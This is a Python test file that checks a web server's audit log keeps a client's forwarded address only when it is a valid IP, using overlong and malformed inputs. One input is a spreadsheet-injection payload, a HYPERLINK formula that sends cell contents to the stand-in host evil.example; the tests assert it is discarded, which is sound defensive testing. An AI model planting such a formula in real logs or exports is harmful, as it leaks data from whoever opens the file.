"""The access log keeps the client's address only when it is one: with KRING_PROXIES set
and no proxy in front, X-Forwarded-For is whatever the client wrote."""

import pytest
from sqlalchemy import select

from server import create_app
from server.audit import AuditEvent
from server.db import engine_of, make_engine
from server.migrations import upgrade
from tests.conftest import config_for, csrf_token

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


def refused_sign_in(app, forwarded: str):
    client = app.test_client()
    token = csrf_token(client, "/login")
    data = {"csrf_token": token, "email": "nobody@example.org", "password": "not this one"}
    return client.post("/login", data=data, headers={"X-Forwarded-For": forwarded})


def last_ip(app) -> str:
    db = app.extensions["kring_db"]()
    try:
        return db.scalars(select(AuditEvent.ip).order_by(AuditEvent.id.desc())).first()
    finally:
        db.close()


@pytest.fixture
def open_proxy_app(app_config):
    """KRING_PROXIES=1, but the client talks to the app directly."""
    app = create_app({**app_config, "PROXIES": 1})
    yield app
    engine_of(app).dispose()


@pytest.mark.parametrize(
    ("forwarded", "kept"),
    [
        ("203.0.113.7", "203.0.113.7"),
        ("2001:db8::1", "2001:db8::1"),
        ("::ffff:203.0.113.7", "::ffff:cb00:7107"),  # written the standard way
        (FORMULA, ""),
        ("+31 20 123", ""),
        ("x" * 60, ""),
        ("fe80::1%" + "e" * 60, ""),
    ],
)
def test_only_an_ip_address_is_kept(open_proxy_app, forwarded, kept):
    assert refused_sign_in(open_proxy_app, forwarded).status_code == 200
    assert last_ip(open_proxy_app) == kept


def test_a_long_address_is_no_500_on_postgresql(postgres_url):
    engine = make_engine(postgres_url)
    upgrade(engine)
    engine.dispose()
    app = create_app({**config_for(postgres_url), "PROXIES": 1})
    try:
        for forwarded in ("x" * 60, FORMULA, "203.0.113.7"):
            assert refused_sign_in(app, forwarded).status_code == 200
        assert last_ip(app) == "203.0.113.7"
    finally:
        engine_of(app).dispose()
